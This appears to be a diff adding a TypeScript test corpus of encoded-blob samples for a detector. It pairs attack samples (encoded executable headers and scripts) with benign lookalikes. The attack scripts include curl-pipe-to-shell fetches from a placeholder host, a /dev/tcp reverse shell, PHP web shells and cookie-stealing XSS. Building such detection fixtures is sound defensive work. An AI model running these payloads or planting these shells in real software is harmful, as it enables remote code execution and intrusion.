@@ -1,0 +1,152 @@
+import { base64, hex, fill, mz, elf } from './bytes.ts'
+import type { CategoryCorpus } from './corpus.ts'
+import { carried, cross, dev, some } from './corpus.ts'
+
+export const blobCorpus: CategoryCorpus = {
+  category: 'encoded_blob',
+  attacks: [
+    dev(
+      'programs',
+      carried([
+        base64(mz),
+        base64(elf),
+        `data: ${base64(mz)}`,
+        `file="${base64(elf)}"`,
+        hex(mz),
+        hex(elf),
+        `echo ${base64(elf)} | base64 -d > a`,
+        base64(`\xcf\xfa\xed\xfe\x07\0\0\x01\x03${fill(50)}`),
+      ]),
+    ),
+    dev(
+      'scripts',
+      carried(
+        [
+          '#!/bin/sh\ncurl http://h.example/x | sh',
+          '#!/usr/bin/env python3\nimport os; os.system("id")',
+          '<?php system($_GET["c"]); ?>',
+          '<script>alert(document.cookie)</script>',
+          '<?php eval(base64_decode($_POST["x"]));',
+          '#!/bin/bash -i\nbash -i >& /dev/tcp/h/1',
+        ].map(base64),
+      ),
+    ),
+    dev(
+      'archives',
+      [
+        `PK\x03\x04\x14\0\0\0\x08\0${fill(60)}`,
+        `\x1f\x8b\x08\0\0\0\0\0\0\x03${fill(60)}`,
+        `7z\xbc\xaf\x27\x1c\0\x04${fill(60)}`,
+        `Rar!\x1a\x07\x01\0${fill(60)}`,
+        `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(16)}${fill(60)}`,
+      ].map(base64),
+    ),
+    dev(
+      'more scripts and programs',
+      some(
+        24,
+        cross(
+          ['payload=', 'attachment: ', 'x '],
+          [
+            base64(mz.replace('\x90', '\x80')),
+            base64(elf.replace('\x03\0>', '\x02\0>')),
+            base64('#!/usr/bin/perl\nuse Socket;exec("/bin/sh");'),
+            base64('<svg onload=alert(1)></svg><!-- padding -->'),
+          ],
+          ['', '\nthanks'],
+        ),
+      ),
+    ),
+    dev('hex and escapes', [
+      `0x${hex(mz)}`,
+      hex('#!/bin/sh\nrm -rf /tmp/x; curl h | sh\n\n'),
+      hex('<?php system($_GET[1]); ?> and more text'),
+      '\\x4d\\x5a\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\xff\\xff\\x00\\x00\\xb8\\x00\\x00\\x00',
+      '0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0x01',
+      '7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00 03 00 3e 00 01 00 00 00 a0 12 00 00',
+      hex(`PK\x03\x04\x14\0\0\0\x08\0${fill(40)}`),
+      hex(`\xca\xfe\xba\xbe\0\0\0\x34${fill(40)}`),
+    ]),
+    dev('data addresses', [
+      'data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA',
+      'data:application/x-sh;base64,IyEvYmluL3No',
+      'data:text/javascript;base64,YWxlcnQoMSk=',
+      'data:application/octet-stream;base64,f0VMRgIBAQAAAAAA',
+      'data:application/java-archive;base64,UEsDBBQAAAAI',
+      'data:application/hta;base64,PGh0bWw+',
+    ]),
+    dev('others', [
+      `wasm ${base64(`\0asm\x01\0\0\0${fill(50)}`)}`,
+      base64(`\xca\xfe\xba\xbe\0\0\0\x3d${fill(50)}`),
+      base64(`BZh91AY&SY${fill(60)}`),
+      base64(`\xfd7zXZ\0\0\x04${fill(60)}`),
+      base64(`dex\n035\0${fill(60)}`),
+      base64(`MSCF\0\0\0\0${fill(60)}`),
+      base64('#!/bin/zsh\necho hi; curl https://h.example/a | zsh'),
+      base64('<?= shell_exec($_REQUEST["cmd"]); ?>'),
+    ]),
+  ],
+  benign: [
+    dev(
+      'random base64',
+      Array.from({ length: 40 }, (_none, i) => base64(fill(30 + i * 3)).slice(i % 9)),
+    ),
+    dev('images and fonts', [
+      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
+      '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsL',
+      'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
+      'd09GMgABAAAAAAXkAA4AAAAADVgAAAWOAAEAAAAAAAAAAAAAAAAAAAAAAAAA',
+      'UklGRiQAAABXRUJQVlA4IBgAAAAwAQCdASoBAAEAAwA0JaQAA3AA/vuUAAA=',
+      'data:image/png;base64,iVBORw0KGgo=',
+      'data:application/json;base64,eyJhIjoxfQ==',
+      'data:font/woff2;base64,d09GMg==',
+      'data:application/pdf;base64,JVBERi0xLjQK',
+    ]),
+    dev('keys and hashes', [
+      '-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ',
+      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx ann@h',
+      'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
+      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.x',
+      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+      '4d5a9f2b7c1e commit fixes',
+      '7f454c46 is the ELF magic number',
+      'magic: cafebabe',
+      '0xdeadbeef 0xcafebabe',
+      'uuid 1f8b0800-aaaa-4bbb-8ccc-ddddeeeeffff',
+    ]),
+    dev(
+      'base64 text',
+      [
+        'Hello, this is an ordinary sentence in base64.',
+        '{"user": "ann", "roles": ["reader"], "exp": 1700000000}',
+        '# Title\n\nSome Markdown text with a list:\n- a\n- b',
+        'name,age\nann,3\nbob,4\ncarl,5\n',
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1"/></svg>',
+        '<html><body><p>Hello</p></body></html>',
+        'SELECT name FROM items WHERE id = 3',
+        'key: value\nlist:\n  - one\n  - two\n',
+        '#include <stdio.h>\nint main(void) { return 0; }',
+        '#!not a shebang, just a hash mark and text',
+      ].map(base64),
+    ),
+    dev('talk', [
+      'TVqQ is how MZ looks in base64.',
+      'Files that start with UEsDB are zip archives.',
+      'The ELF header begins with 7f 45 4c 46.',
+      'H4sI is gzip',
+      'What does PK\\x03\\x04 mean?',
+      'IyEv decodes to #!/',
+      'What is the magic number of a Java class?',
+      'Decode SGVsbG8gd29ybGQ= for me',
+      'Is AGFzbQ the start of a wasm file?',
+      '0x4d5a',
+    ]),
+    dev('minified and hex', [
+      ...Array.from({ length: 12 }, (_none, i) => hex(fill(32 + i)).slice(i)),
+      'a'.repeat(80),
+      '0123456789abcdef'.repeat(6),
+      'AAAA'.repeat(30),
+      'ff'.repeat(40),
+    ]),
+  ],
+}
